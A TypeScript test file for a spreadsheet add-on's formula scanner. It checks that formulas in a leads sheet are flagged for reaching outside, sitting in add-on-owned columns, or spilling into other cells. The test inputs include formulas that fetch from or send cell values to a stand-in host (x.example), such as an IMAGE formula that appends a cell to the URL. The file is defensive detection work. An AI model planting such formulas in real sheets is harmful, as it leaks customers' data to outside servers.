import { formulaFindings } from '../../../src/core/setup/formula-findings';

const at = { leadId: 0, customerName: 1, notes: 2, followUpCount: 3 };
const kinds = (...line: string[]) => {
  const { reaching, inOurs, spreading } = formulaFindings('leads', [[], line], at);
  return { reaching: reaching.length, inOurs: inOurs.length, spreading: spreading.length };
};

describe('formulas in columns of ours', () => {
  test.each(['=IMPORTXML("https://x.example";"//a")', '=image( "https://x.example/"&A2 )', '=1+IMPORTDATA(B2)'])(
    '%s reaches outside',
    (formula) => expect(kinds('', '', formula, '')).toEqual({ reaching: 1, inOurs: 0, spreading: 0 }),
  );

  test('the team may calculate in its own columns', () =>
    expect(kinds('', '', '=B2&"!"', '')).toEqual({ reaching: 0, inOurs: 0, spreading: 0 }));

  test('a column that the add-on fills holds none, nor do ids', () =>
    expect(kinds('="L"&ROW()', '', '', '=1+1')).toEqual({ reaching: 0, inOurs: 2, spreading: 0 }));

  test.each(['=ARRAYFORMULA(B2:B)', '={1;2}'])('%s fills cells that are not its own', (formula) =>
    expect(kinds('', '', formula, '')).toEqual({ reaching: 0, inOurs: 0, spreading: 1 }),
  );
});
